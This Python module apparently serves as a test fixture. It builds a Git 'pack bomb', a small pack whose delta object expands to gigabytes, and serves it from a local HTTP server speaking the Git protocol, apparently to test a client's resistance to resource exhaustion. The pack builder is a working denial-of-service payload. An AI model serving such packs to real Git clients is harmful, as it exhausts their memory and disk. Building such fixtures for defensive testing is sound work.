"""A hostile Git server: a pack of 16 KB in which one object unpacks to gigabytes."""

import hashlib
import http.server
import struct
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

_COMMIT, _TREE, _BLOB, _REF_DELTA = 1, 2, 3, 7
_BASE_BYTES = 0xFFFFFF  # the longest range that one copy instruction of a delta names
_COPY_ALL = bytes([0x80 | 0x10 | 0x20 | 0x40, 0xFF, 0xFF, 0xFF])


def _id(kind: str, data: bytes) -> bytes:
    return hashlib.sha1(f"{kind} {len(data)}".encode() + b"\0" + data).digest()


def _entry(kind: int, size: int, *parts: bytes) -> bytes:
    """Return an object of a pack: its header, then `parts`, the last compressed."""
    head, shift = bytearray(), size >> 4
    byte = (kind << 4) | (size & 15)
    while shift:
        head.append(byte | 0x80)
        byte, shift = shift & 0x7F, shift >> 7
    head.append(byte)
    return bytes(head) + b"".join(parts[:-1]) + zlib.compress(parts[-1], 9)


def _size(number: int) -> bytes:
    """Return a size as deltas spell it: seven bits a byte, the lowest first."""
    out = bytearray()
    while number > 0x7F:
        out.append((number & 0x7F) | 0x80)
        number >>= 7
    return bytes([*out, number])


def bomb(gigabytes: int) -> tuple[bytes, str]:
    """Return a pack with an honest branch and one huge object, and the head's ID."""
    base = bytes(_BASE_BYTES)
    copies = (gigabytes << 30) // _BASE_BYTES
    delta = _size(_BASE_BYTES) + _size(_BASE_BYTES * copies) + _COPY_ALL * copies
    values = b"model:\n  uri: models:/m/1\n"
    tree = b"100644 values.yaml\0" + _id("blob", values)
    commit = (
        b"tree " + _id("tree", tree).hex().encode() + b"\n"
        b"author a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\nx\n"
    )
    entries = [
        _entry(_COMMIT, len(commit), commit),
        _entry(_TREE, len(tree), tree),
        _entry(_BLOB, len(values), values),
        _entry(_BLOB, len(base), base),
        _entry(_REF_DELTA, len(delta), _id("blob", base), delta),
    ]
    pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return pack + hashlib.sha1(pack).digest(), _id("commit", commit).hex()


def _line(data: bytes) -> bytes:
    return f"{len(data) + 4:04x}".encode() + data


@contextmanager
def hostile_server(pack: bytes, head: str) -> Iterator[str]:
    """Serve the pack for every question; yields the repository's URL."""
    advertisement = (
        _line(b"# service=git-upload-pack\n")
        + b"0000"
        + _line(
            f"{head} refs/heads/main\0".encode() + b"side-band-64k ofs-delta shallow\n"
        )
        + b"0000"
    )

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

        def _send(self, kind: str, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", f"application/x-git-upload-pack-{kind}")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            """Answer with the branch."""
            self._send("advertisement", advertisement)

        def _body(self) -> bytes:
            if length := self.headers.get("Content-Length"):
                return self.rfile.read(int(length))
            body = b""
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
            return body

        def do_POST(self) -> None:
            """Answer with the pack once the client is done asking."""
            body = self._body()
            if b"done" not in body:
                self._send("result", _line(f"shallow {head}".encode()) + b"0000")
                return
            bands = (pack[at : at + 60_000] for at in range(0, len(pack), 60_000))
            sent = b"".join(_line(b"\x01" + band) for band in bands)
            self._send("result", _line(b"NAK\n") + sent + b"0000")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/bomb.git"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
